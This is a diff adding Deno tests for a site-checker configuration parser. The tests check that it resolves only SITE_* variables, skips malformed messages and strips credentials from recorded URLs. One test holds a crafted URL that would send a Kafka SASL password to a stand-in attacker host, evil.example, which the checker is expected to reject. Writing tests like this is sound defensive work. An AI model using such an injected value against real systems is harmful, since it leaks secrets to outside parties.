@@ -1,0 +1,51 @@
+import assert from "node:assert/strict";
+import { parseSites } from "../../src/config/sites.ts";
+import { checkerSites, isMisconfigured } from "../../src/sites/checker_sites.ts";
+
+const encode = (value: unknown) => new TextEncoder().encode(JSON.stringify(value));
+const quiet = { warn: () => {}, error: () => {} };
+
+Deno.test("a checker of the sites topic resolves SITE_* variables only: a message cannot read its other settings", () => {
+  const env = { SITE_TOKEN: "t0k", KAFKA_SASL_PASSWORD: "hunter2-secret" };
+  const sitesOf = checkerSites({ env, log: quiet });
+  const [stolen, fine] = sitesOf(
+    new Map([
+      [
+        "a",
+        encode({
+          version: 1,
+          site: { id: "a", url: "https://evil.example/${KAFKA_SASL_PASSWORD}" },
+        }),
+      ],
+      ["b", encode({ version: 1, site: { id: "b", url: "https://b.example/?t=${SITE_TOKEN}" } })],
+    ]),
+  );
+  assert.ok(stolen !== undefined && isMisconfigured(stolen));
+  assert.deepEqual(stolen.problems, [
+    "url: refers to ${KAFKA_SASL_PASSWORD}: checkers of the sites topic resolve only SITE_* variables",
+  ]);
+  assert.ok(fine !== undefined && !isMisconfigured(fine));
+  assert.equal(fine.url, "https://b.example/?t=t0k");
+  assert.equal(fine.urlAsWritten, "https://b.example/?t=${SITE_TOKEN}");
+});
+
+Deno.test("a checker works on each message once, and leaves out a message that is no site", () => {
+  const warnings: string[] = [];
+  const sitesOf = checkerSites({
+    env: {},
+    log: { warn: (m) => warnings.push(m), error: () => {} },
+  });
+  const a = encode({ version: 1, site: { id: "a", url: "https://a.example/" } });
+  const rows = new Map([["a", a], ["junk", new Uint8Array([0xff])]]);
+  const first = sitesOf(rows);
+  assert.deepEqual(first.map((site) => site.id), ["a"]);
+  assert.equal(sitesOf(rows)[0], first[0], "the same message makes the same site");
+  assert.equal(warnings.length, 1);
+});
+
+Deno.test("a URL that is a reference whole is recorded without its user, password, query or fragment", () => {
+  const [site] = parseSites("sites:\n  - id: a\n    url: ${SITE_URL}\n", "sites.yaml", {
+    SITE_URL: "https://user:pw@h.example:8443/health?token=secret#x",
+  });
+  assert.equal(site?.urlAsWritten, "https://h.example:8443/health");
+});
